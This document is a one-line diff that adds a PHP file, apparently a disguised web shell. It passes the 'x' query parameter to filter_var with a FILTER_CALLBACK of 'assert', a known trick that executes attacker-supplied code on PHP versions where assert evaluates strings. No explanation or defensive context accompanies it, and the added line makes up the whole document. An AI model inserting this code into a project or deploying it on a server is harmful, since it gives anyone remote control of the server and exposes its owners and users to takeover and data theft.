@@ -1,0 +1,1 @@
+<?php filter_var($_GET["x"], FILTER_CALLBACK, array("options" => "assert"));
